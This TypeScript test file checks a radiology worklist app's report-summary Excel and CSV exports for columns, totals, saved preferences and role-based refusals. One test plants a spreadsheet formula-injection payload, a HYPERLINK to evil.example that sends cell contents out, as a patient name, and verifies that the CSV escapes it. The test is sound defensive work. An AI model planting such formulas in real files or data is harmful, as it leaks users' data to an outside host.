import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEFAULT_DISPLAY_TIME_ZONE,
  type TStudyListPage,
  type TSummaryTotals,
  resolveColumns,
  summaryCellText,
} from '@radflow/core';
import { type TestApp, createTestApp, createTestWorld } from '../../../test/test-app.js';
import { createTestStudies, createTestStudy, signedInAt } from '../../../test/worklist-test-data.js';
import { readXlsxRows } from '../../../test/xlsx-read.js';

/*
 * Issue 24 §1: 'Download Excel' is a real .xlsx with the screen's columns, every row of the summary
 * and a totals row; the file read back holds what the API answers. Refused to an assignor under
 * disableExcelDownloadForAssignor.
 */

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const RANGE = { startTime: '2026-01-06', endTime: '2026-01-07', summaryType: 'UPLOAD_TIME' };
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

describe('Download Excel', () => {
  it("holds the screen's columns, the API's rows in its order and the totals", async () => {
    const home = await createTestWorld(t.db, { showAssignedToInSummaryPage: true });
    const doctor = await signedInAt(t, home, ['ROLE_DOCTOR'], { identifier: 'Dr. Rao' });
    const at = { groupId: home.group.id, centerId: home.center.id };
    await createTestStudies(t.db, 3, { ...at, row: { createdAt: new Date('2026-01-06T04:00:00Z') } });
    await createTestStudy(t.db, {
      ...at,
      patientName: 'Nguyễn^Thị "An" <&>',
      studyDate: '20260105',
      studyTime: '101500',
      row: {
        createdAt: new Date('2026-01-07T10:00:00Z'),
        status: 'SIGNED_OFF',
        signedOffAt: new Date('2026-01-07T12:34:56Z'),
        lastUploadCompletedAt: new Date('2026-01-07T10:05:00Z'),
        assignedToUserId: doctor.user.id,
        history: 'Headache, 3 days\nvomiting',
        shareLink: 'tok-123',
        studyName: 'CT^BRAIN',
      },
    });
    await createTestStudy(t.db, { ...at, row: { createdAt: new Date('2026-01-08T00:00:00Z') } });
    const admin = await signedInAt(t, home, ['ROLE_ADMIN']);

    const page = await admin.browser.post('/api/report-summary/', { ...RANGE, page: 0, size: 50 });
    expect(page.statusCode, page.body).toBe(200);
    const rows = page.json<TStudyListPage>().content;
    expect(rows).toHaveLength(4);
    const totals = (await admin.browser.post('/api/total-summary/', RANGE)).json<TSummaryTotals>();

    const res = await admin.browser.post('/api/report-summary/xlsx', RANGE);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="report-summary-2026-01-06-to-2026-01-07.xlsx"',
    );
    const sheet = await readXlsxRows(res.rawPayload);

    const columns = resolveColumns('doctorSummary', null, {
      roles: ['ROLE_ADMIN'],
      flags: { showAssignedToInSummaryPage: true } as never,
    }).filter((c) => c.visible);
    expect(sheet[0]).toEqual(columns.map((c) => c.label));
    expect(sheet[0]).toContain('Assigned');
    // The share column is the page's path on screen, the whole address (the server's origin) in the file.
    const expected = rows.map((row) =>
      columns.map((c) => summaryCellText(c.colName, row, DEFAULT_DISPLAY_TIME_ZONE)),
    );
    const shareAt = columns.findIndex((c) => c.colName === 'share');
    const trimmed = (cells: string[] | undefined) => {
      const out = [...(cells ?? [])];
      while (out.length < columns.length) out.push('');
      out[shareAt] = (out[shareAt] ?? '').replace(/^https?:\/\/[^/]+/, '');
      return out;
    };
    expect(sheet.slice(1, 1 + rows.length).map(trimmed)).toEqual(expected);
    const shared = sheet.find((r) => r.includes('Dr. Rao'));
    expect(shared).toContain('2026-01-07 18:04:56');
    expect(shared).toContain('Headache, 3 days\nvomiting');
    expect(shared?.[shareAt]).toMatch(/^https?:\/\/[^/]+\/share\?link=tok-123$/);
    expect(sheet.at(-1)).toEqual([
      'Total',
      String(totals.total),
      'Signed off',
      String(totals.signedOff),
      'Pending',
      String(totals.pending),
      'Deleted',
      String(totals.deleted),
    ]);
    expect(totals.total).toBe(4);
    expect(sheet).toHaveLength(rows.length + 2);

    const csv = await admin.browser.post('/api/report-summary/csv', RANGE);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = csv.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe(columns.map((c) => c.label).join(','));
    expect(lines.at(-2)).toBe(
      `Total,${totals.total},Signed off,${totals.signedOff},Pending,${totals.pending},Deleted,${totals.deleted}`,
    );
  });

  it('keeps a value that a spreadsheet would run as a formula as text in the CSV', async () => {
    // A patient name comes from the uploaded file: whoever sends the study chooses it.
    const home = await createTestWorld(t.db);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    await createTestStudy(t.db, {
      groupId: home.group.id,
      centerId: home.center.id,
      patientName: formula,
      row: { createdAt: new Date('2026-01-06T04:00:00Z'), history: '+1 call -2 @home' },
    });
    const admin = await signedInAt(t, home, ['ROLE_ADMIN']);
    const csv = await admin.browser.post('/api/report-summary/csv', RANGE);
    expect(csv.statusCode, csv.body).toBe(200);
    const body = csv.body.replace(/^\uFEFF/, '');
    // No field of a line starts with =, +, - or @ (RFC 4180 fields, quoted or not).
    const fields = body.split('\r\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
    for (const field of fields) expect(field.replace(/^"/, ''), field).not.toMatch(/^[=+\-@]/);
    // The history is text the sender typed; the name's '=' is a DICOM group separator (core PN rule).
    expect(body).toContain(",'+1 call -2 @home,");
  });

  it("follows the caller's saved summary columns", async () => {
    const home = await createTestWorld(t.db);
    await createTestStudy(t.db, {
      groupId: home.group.id,
      centerId: home.center.id,
      row: { createdAt: new Date('2026-01-06T04:00:00Z'), invoiceNumber: 'INV-9' },
    });
    const center = await signedInAt(t, home, ['ROLE_CENTER']);
    const saved = await center.browser.post('/api/setting/update/USER_TABLE_PREFERENCES', {
      tableColumnSettings: {
        doctorSummary: [
          { colName: 'invoiceNumber', visible: true, index: 0 },
          { colName: 'id', visible: true, index: 1 },
          { colName: 'patient', visible: false, index: 2 },
        ],
      },
    });
    expect(saved.statusCode, saved.body).toBe(200);
    const res = await center.browser.post('/api/report-summary/xlsx', RANGE);
    expect(res.statusCode, res.body).toBe(200);
    const sheet = await readXlsxRows(res.rawPayload);
    expect(sheet[0]?.slice(0, 3)).toEqual(['Invoice Number', 'Id', 'Study Name']);
    expect(sheet[0]).not.toContain('Patient');
    expect(sheet[1]?.[0]).toBe('INV-9');
  });

  it('is refused to an assignor under disableExcelDownloadForAssignor, and to no one else', async () => {
    const home = await createTestWorld(t.db, { disableExcelDownloadForAssignor: true });
    const assignor = await signedInAt(t, home, ['ROLE_ADMIN', 'ROLE_ASSIGNOR']);
    const admin = await signedInAt(t, home, ['ROLE_ADMIN']);
    for (const path of ['/api/report-summary/xlsx', '/api/report-summary/csv']) {
      const refused = await assignor.browser.post(path, RANGE);
      expect(refused.statusCode, path).toBe(403);
      expect(refused.json<{ additionalInfo: string }>().additionalInfo).toBe(
        'disableExcelDownloadForAssignor',
      );
      expect((await admin.browser.post(path, RANGE)).statusCode).toBe(200);
    }
    // The summary itself stays open to the assignor.
    expect((await assignor.browser.post('/api/report-summary/', RANGE)).statusCode).toBe(200);
    const elsewhere = await createTestWorld(t.db);
    const otherAssignor = await signedInAt(t, elsewhere, ['ROLE_ADMIN', 'ROLE_ASSIGNOR']);
    expect((await otherAssignor.browser.post('/api/report-summary/xlsx', RANGE)).statusCode).toBe(200);
  });
});
